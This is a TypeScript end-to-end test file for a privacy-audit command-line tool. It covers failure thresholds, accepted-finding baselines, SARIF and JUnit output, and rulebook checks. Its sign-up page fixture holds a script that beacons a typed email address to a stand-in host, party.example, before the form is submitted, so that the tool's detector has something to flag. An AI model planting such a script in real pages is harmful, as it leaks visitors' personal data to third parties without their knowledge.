import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'junit2json';
import type { TestSuites } from 'junit2json';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Audit } from '../../src/core/audit/audit.ts';
import type { Baseline } from '../../src/core/baseline/baseline.ts';

const COMMAND = 'dist/command/main.js';
const PAGES: Readonly<Record<string, string>> = {
  '/': '<p>nothing here',
  '/sign-up': `<form><input name="email" type="email"></form>
<script>document.forms[0].email.addEventListener('blur', it => navigator.sendBeacon('http://party.example:' + location.port + '/c', JSON.stringify({ email: it.target.value })))</script>`,
};

const server = createServer((request, response) => {
  request.resume();
  const page = PAGES[request.url ?? ''];
  response.writeHead(page === undefined ? 204 : 200, { 'content-type': 'text/html; charset=utf-8' }).end(page === undefined ? '' : `<!doctype html><title>ci</title><link rel="icon" href="data:,">${page}`);
});
const folder = mkdtempSync(join(tmpdir(), 'sillage-ci-'));
const at = (...path: readonly string[]): string => join(folder, ...path);
const url = (path: string): string => `http://app.test:${(server.address() as AddressInfo).port}${path}`;
const auditIn = (...path: readonly string[]): Audit => JSON.parse(readFileSync(at(...path, 'audit.json'), 'utf8')) as Audit;

function command(...given: readonly string[]): Promise<{ readonly code: number | null; readonly stdout: string; readonly stderr: string }> {
  const child = spawn(process.execPath, [COMMAND, ...given], { env: { ...process.env, LANG: 'en_US.UTF-8', LC_ALL: '' } });
  const told = { stdout: '', stderr: '' };
  child.stdout.on('data', text => { told.stdout += String(text); });
  child.stderr.on('data', text => { told.stderr += String(text); });
  return new Promise(done => { child.on('close', code => { done({ code, ...told }); }); });
}

const RULES = '--browser-arg=--host-resolver-rules=MAP app.test 127.0.0.1, MAP party.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1';
const audited = (out: string, ...given: readonly string[]): ReturnType<typeof command> => command('audit', url('/sign-up'), '--out', at(out), '--format', 'json,html', RULES, ...given);

beforeAll(async () => {
  if (!existsSync(COMMAND)) throw new Error(`${COMMAND} is missing: run npm run build first`);
  await new Promise<void>(done => { server.listen(0, '127.0.0.1', done); });
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
  rmSync(folder, { recursive: true, force: true });
});

it('fails by severity and by rule, and no more once somebody answers for what was found; it stays in the report, marked', async () => {
  const known = at('known.json');
  const first = await audited('first', '--fail-on', 'serious,rule:exposed-before-submit', '--save-baseline', known);
  expect(first).toMatchObject({ code: 1, stderr: expect.stringMatching(/Not within --fail-on serious,rule:exposed-before-submit:\n[\s\S]*rule:exposed-before-submit \(Serious\) is broken/u) as string });
  expect(first.stdout).toContain(`Baseline written to ${known}`);

  // As it was written it is no baseline yet: nobody answers for anything. Nothing is visited.
  expect(await audited('unfilled', '--baseline', known)).toMatchObject({ code: 2, stdout: '', stderr: expect.stringMatching(/known\.json:\d+:\d+: \$\.accepted\[0\]\.by: expected who accepts this/u) as string });

  const draft = JSON.parse(readFileSync(known, 'utf8')) as Baseline;
  expect(draft.accepted.map(line => line.finding)).toContain(auditIn('first').findings.find(found => found.detector === 'exposed-before-submit')?.id);
  const unused = { finding: 'session-replay/*', by: 'R. Ito', why: 'once there', until: '2999-12-31' };
  writeFileSync(known, JSON.stringify({ ...draft, accepted: [...draft.accepted.map(line => ({ ...line, by: 'R. Ito', why: 'the contract ends then', until: '2999-12-31' })), unused] }));
  const second = await audited('second', '--fail-on', 'minor,A', '--baseline', known);
  expect(second).toMatchObject({ code: 0, stderr: expect.stringContaining('session-replay/* speaks of nothing that was found.') as string });
  const audit = auditIn('second');
  expect(audit.accepted?.length).toBeGreaterThan(0);
  expect(audit.score).toEqual(auditIn('first').score);
  expect(readFileSync(at('second', 'report.html'), 'utf8')).toContain('Accepted by R. Ito until 2999-12-31: the contract ends then');

  // What nobody answers for any more fails again.
  writeFileSync(known, JSON.stringify({ ...draft, accepted: draft.accepted.map(line => ({ ...line, by: 'R. Ito', why: 'x', until: '2020-01-01' })) }));
  expect(await audited('third', '--fail-on', 'minor', '--baseline', known)).toMatchObject({ code: 1, stderr: expect.stringContaining('was accepted until 2020-01-01, and no longer is.') as string });
});

it('of several pages writes one SARIF and one JUnit file beside those of each page', async () => {
  const { code, stdout } = await command('audit', url('/'), url('/sign-up'), '--out', at('run'), '--format', 'sarif,junit', RULES);
  expect(code).toBe(0);
  for (const name of ['audit.sarif', 'junit.xml']) {
    expect(stdout).toContain(at('run', name));
    expect(readdirSync(at('run')).filter(entry => existsSync(at('run', entry, name)))).toHaveLength(2);
  }
  expect((JSON.parse(readFileSync(at('run', 'audit.sarif'), 'utf8')) as { runs: readonly unknown[] }).runs).toHaveLength(2);
  const results = await parse(readFileSync(at('run', 'junit.xml'), 'utf8')) as TestSuites;
  const broken = (rule: string): readonly boolean[] => (results.testsuite ?? []).map(suite => suite.testcase?.some(it => it.name?.startsWith(`${rule}: `) === true && it.failure !== undefined) === true);
  expect(broken('exposed-before-submit')).toEqual([false, true]);
  // A page on which everything was looked at has rules that passed.
  expect(results.testsuite?.[0]?.testcase?.filter(it => it.failure === undefined && it.skipped === undefined && it.error === undefined).length).toBeGreaterThan(10);
});

it('writes an audit anew, compares it, and checks rules, without a browser', async () => {
  const audit = at('first', 'audit.json');
  expect((await command('report', audit, '--format', 'markdown', '--out', '-')).stdout).toMatch(/^# Privacy audit of `http:\/\/app\.test/u);
  expect((await command('report', audit, '--out', at('again'))).code).toBe(0);
  expect(readFileSync(at('again', 'audit.json'), 'utf8')).toBe(readFileSync(audit, 'utf8'));
  expect(readFileSync(at('again', 'report.html'), 'utf8')).toBe(readFileSync(at('first', 'report.html'), 'utf8'));
  expect((await command('compare', audit, at('second', 'audit.json'), '--fail-on', 'worse')).code).toBe(0);

  writeFileSync(at('mine.yaml'), 'id: mine\ntitle: Mine\nextends: balanced\nrules:\n  - id: tracking-recipient\n    penalty: lots\n');
  expect(await command('rules', 'check', at('mine.yaml'))).toMatchObject({ code: 2, stderr: expect.stringMatching(/mine\.yaml:6:14: .*expected a number/u) as string });
  expect((await command('rules', 'show', 'balanced')).stdout).toBe(readFileSync('src/knowledge/rulebooks/balanced.yaml', 'utf8'));
});
